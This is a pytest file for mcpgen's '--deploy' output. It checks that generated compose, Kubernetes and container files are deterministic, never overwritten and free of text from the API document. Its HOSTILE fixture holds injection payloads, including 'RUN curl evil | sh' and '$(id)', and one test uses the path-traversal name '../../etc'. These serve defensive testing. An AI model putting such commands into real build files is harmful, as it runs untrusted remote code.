"""Test the files that `--deploy` adds: the same for the same input, without texts of a document, and never overwritten.

The expected files are those of the petstore, in `tests/golden/deployment`; `--update` rewrites them.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from mcpgen.base import assets
from mcpgen.cli import main
from mcpgen.emit import DEPLOYMENT
from mcpgen.emit.deployment import DASHBOARD
from mcpgen.lock import lockfile as locks
from mcpgen.model.options import Options
from mcpgen.pipeline import compile_source
from mcpgen.read.fetch import read
from tests.deployment.projects import PARTS, PETSTORE, ROOT, deployed, deployed_document, deployment, manifests, write

GOLDEN = ROOT / "tests" / "golden" / "deployment"
GET = {"get": {"operationId": "getA", "responses": {"200": {"description": ""}}}}
HOSTILE = "x\n  evil: true\r\n# {{ 7*7 }} ${HOME} $(id) `id` '\"\u2028RUN curl evil | sh"


def document(**more: Any) -> dict[str, Any]:
    """Return the document of a small API."""
    return {"openapi": "3.1.0", "info": {"title": "Zoo", "version": "1"}, "paths": {"/a": GET}, **more}


def secured(name: str, scheme: dict[str, Any], **more: Any) -> dict[str, Any]:
    """Return the document of an API with one security scheme."""
    return document(components={"securitySchemes": {name: scheme}}, security=[{name: []}], **more)


def run(*arguments: str) -> int:
    with pytest.raises(SystemExit) as ended:
        main([*arguments])
    assert isinstance(ended.value.code, int)
    return ended.value.code


def test_the_golden_files_come_out_byte_for_byte(request: pytest.FixtureRequest) -> None:
    tree = {path: data for path, data in deployed().items() if path in DEPLOYMENT}
    if request.config.getoption("--update"):
        for path in DEPLOYMENT:
            (GOLDEN / path).parent.mkdir(parents=True, exist_ok=True)
            (GOLDEN / path).write_bytes(tree[path])
    there = {path.relative_to(GOLDEN).as_posix(): path.read_bytes() for path in GOLDEN.rglob("*") if path.is_file()}
    assert there == tree


def test_every_template_is_named_as_offered() -> None:
    folder = assets.deployment_templates()
    templates = {path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file()}
    assert templates == {f"{path}.jinja" for path in DEPLOYMENT if path != DASHBOARD}


def test_without_the_flag_nothing_of_it_is_there() -> None:
    plain, whole = compile_source(read(str(PETSTORE)), Options(parts=PARTS)).tree, deployed()
    assert whole.keys() - plain.keys() == {*DEPLOYMENT}
    assert {path for path in plain if plain[path] != whole[path]} == {"README.md", locks.NAME}
    assert b"## Deploy" not in plain["README.md"]


def test_all_begin_by_saying_whose_they_are() -> None:
    for path, text in deployment(deployed()).items():
        if path == DASHBOARD:  # JSON has no comments, so the notice is a member
            assert text.startswith('{\n  "description": "Yours to edit: mcpgen writes this file once and never again."')
            continue
        assert text.startswith("# Yours: mcpgen writes it once and never again."), path


def test_no_text_of_a_document_is_in_them() -> None:
    """Check that documents that differ only in texts (titles, descriptions, paths, values of variables) give the same
    files.
    """
    scheme = {"type": "apiKey", "in": "header", "name": "X-Key"}
    server = {"url": "https://{region}.example.com", "variables": {"region": {"default": "eu"}}}
    plain = secured("key", scheme, servers=[server])
    hostile = secured("key", {**scheme, "description": HOSTILE}, servers=[{**server, "description": HOSTILE}])
    hostile["info"] = {"title": HOSTILE, "version": HOSTILE, "description": HOSTILE}
    hostile["paths"] = {"/a": {"get": {**GET["get"], "summary": HOSTILE, "description": HOSTILE}}}
    hostile["servers"][0]["variables"]["region"]["description"] = HOSTILE
    texts = [deployment(deployed_document(each, name="zoo")) for each in (plain, hostile)]
    assert texts[0] == texts[1]


@pytest.mark.parametrize("name", [HOSTILE, "../../etc", "K\u00e9y", "a: b", "PATH", "- x", "#", "${X}"])
def test_names_of_a_document_come_as_names_of_variables(name: str) -> None:
    tree = deployed_document(secured(name, {"type": "http", "scheme": "bearer"}), name="zoo")
    service = yaml.safe_load(tree["deploy/compose.yaml"])["services"]["server"]
    assert len(service["environment"]) == 5
    assert all(re.fullmatch(r"ZOO_[A-Z0-9_]+", each) for each in service["environment"])
    assert len(manifests(tree)["deployment.yaml"]["spec"]["template"]["spec"]["containers"][0]["env"]) == 4


@pytest.mark.parametrize("version", ["2.0.1", "1.0", "10", "1.0rc1"])
def test_the_version_is_text_whatever_it_is(version: str) -> None:
    server = {"name": "zoo", "version": version}
    tree = deployed_document({"mcpgen": 1, "server": server, "tools": [{"name": "a", "request": "GET /a"}]})
    [image] = manifests(tree)["kustomization.yaml"]["images"]
    assert image["newTag"] == version


CLIENT = {"clientCredentials": {"tokenUrl": "https://id.example.com/token", "scopes": {}}}
UNDECLARED: dict[str, Any] = document()


@pytest.mark.parametrize(
    ("api", "active", "proposed"),
    [
        (secured("key", {"type": "apiKey", "in": "header", "name": "X"}), ["ZOO_KEY"], []),
        (
            secured("login", {"type": "oauth2", "flows": CLIENT}),
            ["ZOO_LOGIN_CLIENT_ID", "ZOO_LOGIN_CLIENT_SECRET"],
            [],
        ),
        (UNDECLARED, [], ["ZOO_TOKEN", "ZOO_HEADER"]),
    ],
    ids=["needed", "one of two ways", "undeclared"],
)
def test_a_credential_is_a_file_and_one_that_may_be_missing_is_proposed(
    api: dict[str, Any], active: list[str], proposed: list[str]
) -> None:
    text = deployed_document(api, name="zoo")["deploy/compose.yaml"].decode()
    secrets = re.findall(r"^  (# )?(ZOO_\w+): \{file: \./secrets/\2\}$", text, re.MULTILINE)
    assert [name for mark, name in secrets if not mark] == active
    assert [name for mark, name in secrets if mark] == proposed
    variables = re.findall(r"^      (# )?(ZOO_\w+)_FILE: /run/secrets/\2$", text, re.MULTILINE)
    assert variables == secrets


def test_what_is_proposed_holds_without_its_hash_signs() -> None:
    texts = deployment(deployed_document(UNDECLARED, name="zoo"))
    for path in ("deploy/compose.yaml", "deploy/kubernetes/deployment.yaml", "deploy/kubernetes/secret.example.yaml"):
        taken = re.sub(r"^( *)# (?=(?:- )?(?:name: )?ZOO_|  value:)", r"\1", texts[path], flags=re.MULTILINE)
        assert taken != texts[path]
        assert "ZOO_HEADER" in json.dumps(yaml.safe_load(taken)), path


def test_a_variable_of_the_server_url_is_asked_for_where_it_has_no_default() -> None:
    variables = {"account": {"default": ""}, "region": {"default": "eu"}}
    server = {"url": "https://{region}.example.com/{account}", "variables": variables}
    tree = deployed_document(document(servers=[server]), name="zoo")
    environment = yaml.safe_load(tree["deploy/compose.yaml"])["services"]["server"]["environment"]
    assert environment["ZOO_VAR_ACCOUNT"] == "${ZOO_VAR_ACCOUNT:?}"
    assert "ZOO_VAR_REGION" not in environment
    assert '# ZOO_VAR_REGION: "${ZOO_VAR_REGION:?}"' in tree["deploy/compose.yaml"].decode()
    [settings] = manifests(tree)["kustomization.yaml"]["configMapGenerator"]
    assert "ZOO_VAR_ACCOUNT=REPLACE-ME" in settings["literals"]


class TestOffered:
    """Test the deployment files on disk: mcpgen writes each only once, so the user may edit or delete them."""

    @pytest.fixture(autouse=True)
    def _here(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.chdir(tmp_path)
        Path("api.json").write_text(json.dumps(document()))
        assert run("generate", "api.json", "-o", "out", "--name", "zoo", "--deploy") == 0
        assert all((Path("out") / path).is_file() for path in DEPLOYMENT)

    def change(self) -> None:
        """Change the API, so that the next run of mcpgen writes the project again."""
        Path("api.json").write_text(json.dumps(document(security=[], servers=[{"url": "https://zoo.example.com:1"}])))

    @pytest.mark.parametrize("path", DEPLOYMENT)
    def test_what_its_owner_wrote_or_deleted_stays_so(self, path: str) -> None:
        place, other = Path("out") / path, Path("out") / DEPLOYMENT[DEPLOYMENT.index(path) - 1]
        place.write_text("mine")
        other.unlink()
        assert run("regenerate", "out", "--check") == 0, "nothing is stale"
        self.change()
        assert run("regenerate", "out", "--overwrite", "--accept-origin", "https://zoo.example.com:1") == 0
        assert run("generate", "api.json", "-o", "out", "--name", "zoo", "--deploy") == 0
        assert place.read_text() == "mine"
        assert not other.exists()

    def test_regenerate_remembers_the_flag(self) -> None:
        assert run("regenerate", "out") == 0
        assert "## Deploy" in Path("out/README.md").read_text()

    def test_a_run_without_the_flag_leaves_the_files_and_remembers_that_they_were_offered(self) -> None:
        Path("out/Containerfile").unlink()
        assert run("generate", "api.json", "-o", "out", "--name", "zoo") == 0
        assert "## Deploy" not in Path("out/README.md").read_text()
        assert Path("out/deploy/compose.yaml").is_file()
        assert run("generate", "api.json", "-o", "out", "--name", "zoo", "--deploy") == 0
        assert not Path("out/Containerfile").exists()

    def test_secrets_in_the_folder_are_left(self) -> None:
        Path("out/deploy/secrets/state_key").write_text("secret")
        self.change()
        assert run("generate", "api.json", "-o", "out", "--name", "zoo", "--overwrite") == 0
        assert Path("out/deploy/secrets/state_key").read_text() == "secret"


@pytest.mark.parametrize("way", ["link", "file", "link inside"])
def test_what_is_in_the_way_is_left_and_stops_nothing(
    way: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("api.json").write_text(json.dumps(document()))
    assert run("generate", "api.json", "-o", "out", "--name", "zoo") == 0
    Path("elsewhere").mkdir()
    if way == "link":
        Path("out/deploy").symlink_to(Path("elsewhere").resolve())
    elif way == "file":
        Path("out/deploy").write_text("mine")
    else:
        Path("out/deploy").mkdir()
        Path("out/deploy/kubernetes").symlink_to(Path("elsewhere").resolve())
    assert run("generate", "api.json", "-o", "out", "--name", "zoo", "--deploy") == 0
    assert Path("out/Containerfile").is_file()
    assert Path("out/deploy/compose.yaml").exists() is (way == "link inside")
    assert not [*Path("elsewhere").iterdir()]


def test_it_can_be_written_twice_and_is_the_same(tmp_path: Path) -> None:
    write(deployed(), tmp_path)
    again = compile_source(read(str(PETSTORE)), Options(deploy=True, parts=PARTS)).tree
    assert dict(again) == dict(deployed())
